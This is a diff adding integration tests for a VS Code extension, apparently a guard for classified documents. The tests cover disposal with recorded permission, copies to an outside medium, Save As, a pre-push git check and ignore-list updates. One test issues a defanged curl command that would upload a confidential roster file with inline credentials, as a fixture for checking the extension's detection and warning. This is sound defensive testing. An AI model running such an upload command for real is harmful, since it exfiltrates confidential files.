@@ -1,5 +1,7 @@
 import assert from 'node:assert/strict';
-import { existsSync, readdirSync, readFileSync } from 'node:fs';
+import { execFileSync } from 'node:child_process';
+import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
+import os from 'node:os';
 import path from 'node:path';
 import * as vscode from 'vscode';
 import { api, clear, exists, file, put, read, setText, show, until } from './support';
@@ -40,6 +42,7 @@ function recorded(action: string): Promise<Entry> {
 /** What a person answers: buttons of notifications and dialogs by their text, input boxes by their title. What was asked is kept. */
 class Person {
 	readonly asked: string[] = [];
+	#prompts: Readonly<Record<string, string>> = {};
 	readonly #real: Partial<typeof vscode.window> = {};
 
 	constructor(
@@ -56,8 +59,10 @@ class Person {
 			showWarningMessage: message,
 			showInformationMessage: message,
 			showErrorMessage: message,
-			showInputBox: async ({ title = '' }: vscode.InputBoxOptions = {}) => {
+			showInputBox: async ({ title = '', prompt = '' }: vscode.InputBoxOptions = {}) => {
 				this.asked.push(title);
+				const byPrompt = Object.entries(this.#prompts).find(([key]) => prompt.includes(key));
+				if (byPrompt !== undefined) return byPrompt[1];
 				return Object.entries(this.write).find(([key]) => title.includes(key))?.[1];
 			},
 			showQuickPick: async (items: readonly vscode.QuickPickItem[], { title = '' }: vscode.QuickPickOptions = {}) => {
@@ -65,6 +70,10 @@ class Person {
 				return (await items).find((item) => this.press.some((wanted) => wanted.test(item.label)));
 			},
 		});
+	}
+
+	writeByPrompt(answers: Readonly<Record<string, string>>): void {
+		this.#prompts = answers;
 	}
 
 	leave(): void {
@@ -245,5 +254,206 @@ describe('guards: lowered labels', () => {
 		await until('the label file', () => (exists('棚/b.bin.label') && !exists('a.bin.label') ? true : undefined));
 		await quiet();
 		assert.deepEqual(someone.asked, []);
+	});
+});
+
+/** Words of a permission as a person types them, by the prompt's end. */
+const PERMISSION = { approver: '山田課長', number: '総第5号' };
+
+describe('guards: disposal', () => {
+	before(api);
+	afterEach(async () => {
+		person?.leave();
+		person = null;
+		await clear();
+	});
+
+	it('a program disposes through the same judgement: refused without permission, recorded and deleted with it', async () => {
+		const target = put('a.md', C2);
+		const none = { treatment: null, note: null, permission: null, selfApprovalReason: null, person: null };
+		const permission = { approver: '山田課長', role: 'manager', number: '総第5号', date: '2026-01-05' };
+		const call = (answers: object): Thenable<{ kind: string }> =>
+			vscode.commands.executeCommand('kakuzuke.dispose', { paths: [target.fsPath], answers });
+		answering([]);
+		assert.equal((await call(none)).kind, 'stopped');
+		assert.ok(exists('a.md'));
+		assert.equal((await call({ ...none, treatment: 'overwritten', permission })).kind, 'done');
+		assert.ok(!exists('a.md'));
+		const [entry, ...more] = register();
+		assert.deepEqual([entry?.action, entry?.treatment, more.length], ['disposal', 'overwritten', 0]);
+	});
+
+	it('the command asks for treatment and permission, and deletes for good after the confirmation', async () => {
+		const target = put('a.md', C2);
+		const someone = answering([/Cryptographic/, /manager/i, /Record and Delete/]);
+		someone.writeByPrompt({ 'name of the approver': PERMISSION.approver, number: PERMISSION.number, date: '2026/1/5' });
+		await vscode.commands.executeCommand('kakuzuke.dispose', target);
+		const entry = await recorded('disposal');
+		assert.equal(entry.treatment, 'cryptographic-erasure');
+		assert.ok(!exists('a.md'));
+		assert.match(entry.files[0]?.sha256 ?? '', /^[0-9a-f]{64}$/);
+	});
+
+	it('a document that is deleted in the editor is recorded with its hash, and completed by the answer', async () => {
+		const target = put('a.md', C2);
+		put('b.md', C1);
+		const someone = answering([/Record the disposal/, /Medium destroyed/, /manager/i]);
+		someone.writeByPrompt({ 'name of the approver': PERMISSION.approver, number: PERMISSION.number, date: '2026-01-05' });
+		const edit = new vscode.WorkspaceEdit();
+		edit.deleteFile(target);
+		edit.deleteFile(vscode.Uri.file(file('b.md')));
+		assert.ok(await vscode.workspace.applyEdit(edit));
+		const entries = await until(
+			'two entries',
+			() => (register().length === 2 ? register() : undefined),
+			() => [register(), someone.asked],
+		);
+		assert.deepEqual(
+			entries.map(({ action, treatment, files }) => [action, treatment, files.map(({ path: name }) => name)]),
+			[
+				['disposal', 'not stated', ['a.md']],
+				['disposal', 'destroyed', ['a.md']],
+			],
+		);
+		assert.equal(entries[1]?.detail, 'completes: 1');
+	});
+});
+
+describe('guards: ways out', () => {
+	let outside = '';
+	before(api);
+	beforeEach(async () => {
+		outside = mkdtempSync(path.join(os.tmpdir(), 'kakuzuke-stick-'));
+		const policy = {
+			id: 'test',
+			extends: 'nishihara-2024',
+			export: { outside: [{ id: 'stick', path: `${outside}/**`, route: 'media', title: { ja: '試験用媒体', en: 'Test stick' } }] },
+		};
+		put('.kakuzuke/policy.jsonc', JSON.stringify(policy));
+		// A scan reads the policy anew.
+		await (await api()).scan();
+	});
+	afterEach(async () => {
+		person?.leave();
+		person = null;
+		await clear();
+		rmSync(outside, { recursive: true, force: true });
+	});
+
+	it('a document that is copied to a medium: kept with a reason, which is recorded', async () => {
+		const target = put('a.md', C2);
+		const copy = vscode.Uri.file(path.join(outside, 'a.md'));
+		const someone = answering([/Keep it/], { 'Test stick': '施錠して運ぶ' });
+		const edit = new vscode.WorkspaceEdit();
+		edit.createFile(copy, { contents: readFileSync(target.fsPath) });
+		assert.ok(await vscode.workspace.applyEdit(edit));
+		const entry = await recorded('outside');
+		assert.deepEqual([entry.reason, entry.route], ['施錠して運ぶ', 'media']);
+		assert.match(someone.asked[0] ?? '', /a\.md.*C2.*Test stick.*3\(2\)⑧/);
+	});
+
+	it('the copy is removed; a public one is not spoken of', async () => {
+		const copy = path.join(outside, 'b.md');
+		const someone = answering([/Remove/]);
+		const edit = new vscode.WorkspaceEdit();
+		edit.createFile(vscode.Uri.file(copy), { contents: Buffer.from(C2) });
+		edit.createFile(vscode.Uri.file(path.join(outside, 'c.md')), { contents: Buffer.from(C1) });
+		assert.ok(await vscode.workspace.applyEdit(edit));
+		await until('the copy to go', () => (existsSync(copy) ? undefined : true));
+		assert.ok(existsSync(path.join(outside, 'c.md')));
+		assert.doesNotMatch(someone.asked.join('\n'), /c\.md/);
+	});
+
+	it('a document that is saved there by Save As', async () => {
+		const editor = await show(put('a.md', C2));
+		const someone = answering([]);
+		const copy = vscode.Uri.file(path.join(outside, 'd.md'));
+		// What Save As does after the dialog: a new document, its text, its file.
+		await vscode.workspace.fs.writeFile(copy, Buffer.from(''));
+		const other = await vscode.window.showTextDocument(copy);
+		await setText(other, editor.document.getText());
+		await other.document.save();
+		await until(
+			'the reminder',
+			() => someone.asked.find((text) => /d\.md.*Test stick/.test(text)),
+			() => someone.asked,
+		);
+	});
+
+	it('a command in the terminal that sends a document out: a warning and an entry, without the line', async function () {
+		put('名簿.md', C2);
+		const someone = answering([]);
+		const terminal = vscode.window.createTerminal({ cwd: file('.'), shellPath: '/bin/bash' });
+		terminal.show();
+		const integration = await until(
+			'shell integration',
+			() => terminal.shellIntegration,
+			() => '',
+			8000,
+		).catch(() => null);
+		// A shell without integration tells nobody what it runs (docs/limits.md).
+		if (integration === null) this.skip();
+		integration.executeCommand('true || curl -u me:geheim123 -F "file=@名簿.md" https://example.com/');
+		const entry = await recorded('terminal');
+		assert.equal(entry.detail, 'curl');
+		assert.deepEqual(
+			entry.files.map(({ path: name }) => name),
+			['名簿.md'],
+		);
+		assert.doesNotMatch(JSON.stringify(register()), /geheim|example\.com/);
+		assert.match(someone.asked.join('\n'), /curl.*名簿\.md.*C2.*cannot be stopped/);
+		terminal.dispose();
+	});
+
+	it('the check before a push judges what the branch adds', async () => {
+		const bare = path.join(outside, 'remote.git');
+		const git = (...args: string[]): void => {
+			execFileSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@example.com', '-c', 'init.defaultBranch=main', ...args], {
+				cwd: file('.'),
+				stdio: 'ignore',
+			});
+		};
+		put('名簿.md', C2);
+		put('広報.md', C1);
+		git('init');
+		git('init', '--bare', bare);
+		git('remote', 'add', 'origin', bare);
+		git('add', '名簿.md', '広報.md');
+		git('commit', '-m', 'first');
+		const check = (): Thenable<{ outcome: string; stopped: { path: string }[] }> =>
+			vscode.commands.executeCommand('kakuzuke.checkBeforePush', { folder: file('.'), quiet: true });
+		const stopped = await check();
+		assert.equal(stopped.outcome, 'stop');
+		assert.deepEqual(
+			stopped.stopped.map(({ path: name }) => name),
+			['名簿.md'],
+		);
+		const someone = answering([/Show the files/, /名簿/]);
+		await vscode.commands.executeCommand('kakuzuke.checkBeforePush', vscode.Uri.file(file('.')));
+		await until(
+			'the document',
+			() => (vscode.window.activeTextEditor?.document.uri.fsPath.endsWith('名簿.md') ? true : undefined),
+			() => someone.asked,
+		);
+		git('rm', '--cached', '名簿.md');
+		git('commit', '--amend', '-m', 'first');
+		assert.equal((await check()).outcome, 'pass');
+	});
+
+	it('the ignore files list the documents of level 2 and above', async () => {
+		put('名簿.md', C2);
+		put('広報.md', C1);
+		put('.gitkeep', '');
+		put('.aiexclude', '# own\n');
+		answering([]);
+		const policy = { id: 'test', extends: 'nishihara-2024', export: { ignoreFiles: ['.aiexclude'] } };
+		put('.kakuzuke/policy.jsonc', JSON.stringify(policy));
+		const changes = await vscode.commands.executeCommand<{ kind: string }[]>('kakuzuke.updateIgnoreList');
+		assert.deepEqual(
+			changes.map(({ kind }) => kind).filter((kind) => kind !== 'absent'),
+			['written'],
+		);
+		assert.match(read('.aiexclude'), /^# own\n[\s\S]*\/名簿\.md\n/);
+		assert.doesNotMatch(read('.aiexclude'), /広報/);
 	});
 });
